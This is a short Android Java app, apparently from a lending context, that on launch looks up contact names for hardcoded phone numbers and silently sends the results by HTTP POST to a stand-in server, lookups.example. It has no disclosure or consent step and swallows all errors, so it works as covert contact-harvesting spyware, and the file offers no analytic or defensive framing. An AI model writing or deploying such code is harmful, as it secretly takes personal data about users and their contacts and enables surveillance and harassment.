package dev.lender.lookups;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.provider.*;
import java.io.*;
import java.net.*;
import java.util.*;
import org.json.*;

public class Main extends Activity {

    protected void onCreate(Bundle b) {
        super.onCreate(b);
        new Task().execute("13800000000", "13900000000");
    }

    private class Task extends AsyncTask<String, Void, JSONObject> {

        protected JSONObject doInBackground(String... numbers) {
            JSONObject o = new JSONObject();
            for (String n : numbers) {
                String who = nameOf(n);
                if (who != null) try {
                    o.put(n, who);
                } catch (JSONException e) {}
            }
            return o;
        }

        protected void onPostExecute(JSONObject o) {
            final String text = o.toString();
            new Thread() {
                public void run() {
                    post(text);
                }
            }.start();
        }
    }

    private String nameOf(String number) {
        Uri u = Uri.withAppendedPath(
            ContactsContract.PhoneLookup.CONTENT_FILTER_URI,
            Uri.encode(number)
        );
        Cursor c = getContentResolver().query(u, new String[] { "display_name" }, null, null, null);
        if (c == null) return null;
        try {
            return c.moveToFirst() ? c.getString(0) : null;
        } finally {
            c.close();
        }
    }

    static void post(String t) {
        HttpURLConnection h = null;
        try {
            h = (HttpURLConnection) new URL("http://lookups.example/names").openConnection();
            h.setRequestMethod("POST");
            h.setDoOutput(true);
            OutputStream os = h.getOutputStream();
            os.write(t.getBytes());
            os.flush();
        } catch (IOException e) {
        } finally {
            if (h != null) h.disconnect();
        }
    }
}
